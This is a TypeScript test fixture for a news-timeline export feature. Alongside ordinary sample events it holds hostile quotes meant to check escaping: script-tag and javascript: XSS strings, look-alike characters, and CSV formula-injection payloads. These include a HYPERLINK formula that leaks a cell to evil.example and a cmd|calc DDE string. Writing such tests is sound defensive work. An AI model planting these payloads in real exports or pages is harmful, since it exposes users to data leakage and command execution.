// Events for the export tests: ordinary ones at each precision, and hostile ones whose article text
// tries to become markup, a link or a spreadsheet formula in the exported files.
import type { CitationView, TimelineEvent } from '../../lib/db/queries';
import type { ExportInput } from '../../lib/export/export-input';

export const SITE_URL = 'https://chronocite.example';
export const STAMP = new Date('2025-03-05T00:00:00Z');

function citation(overrides: Partial<CitationView> = {}): CitationView {
  return {
    source: 'jpost-meetings',
    sourceTitle: 'Top officials met 4 times in 2023',
    publisher: 'The Jerusalem Post',
    paragraph: 3,
    quote: 'The officials met four times in 2023.',
    start: 0,
    end: 37,
    stance: 'reported',
    claimant: 'Ruritanian officials',
    role: 'report',
    roleBasis: null,
    ...overrides,
  };
}

function event(overrides: Partial<TimelineEvent> = {}): TimelineEvent {
  return {
    id: 'evt_day',
    title: 'Attack',
    summary: 'The attack began on October 7.',
    start: '2023-10-07',
    end: '2023-10-07',
    precision: 'day',
    dateText: 'October 7',
    inferred: { rule: 'sentence-year', anchor: '“2023” (¶6)' },
    sourceCount: 2,
    passageCount: 2,
    mentionCount: 0,
    actors: [
      { slug: 'hamas', name: 'Hamas', kind: 'organization', discovered: false },
      { slug: 'iran', name: 'Iran', kind: 'state', discovered: false },
    ],
    citations: [citation({ quote: 'The attack began on October 7.' }), citation({ source: 'analysis', sourceTitle: 'An analysis', publisher: null, paragraph: 12, stance: 'stated', claimant: null })],
    discrepancies: [],
    ...overrides,
  };
}

/** One event per precision, each spanning what that precision means. */
export const ORDINARY_EVENTS: TimelineEvent[] = [
  event(),
  event({ id: 'evt_week', title: 'Meeting', start: '2023-04-01', end: '2023-04-07', precision: 'week', dateText: 'first week of April' }),
  event({ id: 'evt_month', title: 'Visit', start: '2023-02-01', end: '2023-02-28', precision: 'month', dateText: 'February 2023', inferred: null }),
  event({ id: 'evt_season', title: 'War', start: '2006-06-01', end: '2006-08-31', precision: 'season', dateText: 'summer of 2006', inferred: null }),
  event({ id: 'evt_year', title: 'Founding', start: '1987-01-01', end: '1987-12-31', precision: 'year', dateText: '1987', inferred: null }),
  event({ id: 'evt_decade', title: 'Build-up', start: '1990-01-01', end: '1999-12-31', precision: 'decade', dateText: 'the 1990s', inferred: null }),
  event({ id: 'evt_approx', title: 'Talks', start: '2017-09-30', end: '2017-10-06', precision: 'approximate', dateText: 'Just days before' }),
];

/** Article text that would be markup or a link if a format let it through unescaped. */
export const MARKUP_QUOTES = [
  '<script>alert("x")</script> said, "yes", then left,\nlater',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">read more</a>',
  'ｊａｖａｓｃｒｉｐｔ：alert(1) and the Cyrillic аlert',
  'Right-to-left \u202Egnp.exe\u202C override',
  "O'Brien & sons <img src=x onerror=alert(1)>",
];

/** Article text a spreadsheet would run as a formula (OWASP CSV injection), look-alikes included. */
export const FORMULA_QUOTES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝cmd',
];

export const HOSTILE_QUOTES = [...MARKUP_QUOTES, ...FORMULA_QUOTES];

export const HOSTILE_EVENT: TimelineEvent = event({
  id: 'evt_hostile',
  title: '<img src=x onerror=alert(1)> =cmd',
  dateText: '<b>October</b> 7',
  inferred: null,
  actors: [{ slug: 'x', name: '=evil()', kind: 'person', discovered: true }],
  citations: HOSTILE_QUOTES.map((quote, index) =>
    citation({ quote, paragraph: index + 1, sourceTitle: '<i>Title</i> "quoted"', publisher: '@Publisher' }),
  ),
});

export function exportInput(events: TimelineEvent[]): ExportInput {
  return { sources: [], events, siteUrl: SITE_URL, stamp: STAMP };
}
